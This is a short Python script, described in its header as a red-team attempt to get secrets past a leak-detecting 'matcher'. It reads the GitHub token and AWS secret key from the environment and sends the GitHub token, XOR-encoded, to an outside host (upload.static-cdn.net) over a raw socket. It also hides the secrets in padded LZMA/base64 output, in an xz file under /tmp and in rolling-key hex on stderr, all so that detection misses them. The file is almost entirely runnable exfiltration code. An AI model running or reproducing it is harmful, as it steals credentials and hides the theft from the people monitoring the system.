# Get a secret out past the matcher (red team, issue 12, continued),
# reading nothing the kernel witnesses (the tokens are in the environment):
# 1. POSTed XOR-ed with a random key of 24 bytes;
# 2. printed as base64 of Python's lzma.compress in FORMAT_ALONE;
# 3. written into a file as xz (lzma.compress);
# 4. printed to stderr as hex, added with a key that rises by one a byte.
import base64, lzma, os, socket, sys

s = os.environ["GITHUB_TOKEN"].encode()
a = os.environ["AWS_SECRET_ACCESS_KEY"].encode()

# 1
key = os.urandom(24)
body = bytes(c ^ key[i % len(key)] for i, c in enumerate(s))
try:
    c = socket.create_connection(("upload.static-cdn.net", 80), timeout=5)
    c.sendall(b"POST /u HTTP/1.1\r\nHost: upload.static-cdn.net\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    c.recv(100)
    c.close()
except OSError as e:
    print("post failed:", e)

# 2
print("blob:", base64.b64encode(lzma.compress(b"config=1;" * 50 + a + b";" * 100, format=lzma.FORMAT_ALONE)).decode())

# 3
with open("/tmp/state.xz", "wb") as f:
    f.write(lzma.compress(b"#" * 300 + s + b"#" * 300))

# 4
k = os.urandom(1)[0]
print("id:", bytes((c + k + i) % 256 for i, c in enumerate(a)).hex(), file=sys.stderr)
